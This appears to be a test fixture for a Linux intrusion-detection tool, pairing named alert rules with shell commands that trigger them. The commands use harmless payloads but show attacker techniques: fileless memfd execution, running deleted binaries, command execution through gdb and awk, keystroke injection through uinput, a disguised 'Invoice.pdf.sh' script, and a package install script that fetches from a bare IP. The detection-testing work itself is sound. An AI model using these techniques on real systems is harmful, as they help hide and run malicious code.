## Suspicious Process Execution
#in shop:1
/bin/sh -c true
## Executable run from memory
#also Interpreter makes a file in memory
python3 -c '
import os
fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
## Executable run from a deleted file
#also Program written by an interpreter beside its script
python3 -c '
import os, shutil
shutil.copy("/bin/true", "/home/ann/x"); fd = os.open("/home/ann/x", os.O_RDONLY); os.unlink("/home/ann/x"); os.execve(fd, ["x"], {})'
## Executable run from a scratch folder
#setup stubs /tmp/x
/tmp/x
## Execution refused in a scratch folder
echo x > /tmp/x; /tmp/x
## Keys typed by a program
#setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
python3 -c 'open("/dev/uinput", "r+b")'
## Download or questions by a tool for texts or archives
awk 'BEGIN { system("id -u") }'
## Debugger told to run commands
#setup stubs /usr/bin/gdb
gdb -nx -batch -ex 'python import os; os.system("id")'
## Script of Lua taken from a scratch folder
#also Interpreter runs a script from a scratch folder
#setup stubs /usr/bin/lua5.4; echo x > /tmp/x.lua
lua5.4 /tmp/x.lua
## Program wrote a file in a scratch folder and started it
#also Executable run from a scratch folder
#also Program written by an interpreter beside its script
python3 -c '
import os, subprocess
open("/tmp/x", "wb").write(open("/bin/true", "rb").read()); os.chmod("/tmp/x", 0o755); subprocess.run(["/tmp/x"])'
## Program run from a folder of downloads
#setup mkdir -p /home/ann/Downloads; cp /bin/true /home/ann/Downloads/wallet
/home/ann/Downloads/wallet
## Script of a document's name run
#setup printf '#!/bin/sh\ntrue\n' > /home/ann/Invoice.pdf.sh; chmod 755 /home/ann/Invoice.pdf.sh
/home/ann/Invoice.pdf.sh
## Package's script downloads from an address without a name
#also Package installed from a local file
#setup mkdir -p /srv/d/DEBIAN; printf 'Package: x\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' > /srv/d/DEBIAN/control; printf '#!/bin/sh\ncurl -s http://203.0.113.9/t\n' > /srv/d/DEBIAN/postinst; chmod 755 /srv/d/DEBIAN/postinst; dpkg-deb -b /srv/d /srv/x.deb
dpkg -i /srv/x.deb
## Hidden script written and run by the same program
#also Hidden script run
python3 -c 'import subprocess; f = open("/home/ann/.n2", "w"); f.write("print()"); f.close(); subprocess.run(["python3", "/home/ann/.n2"])'
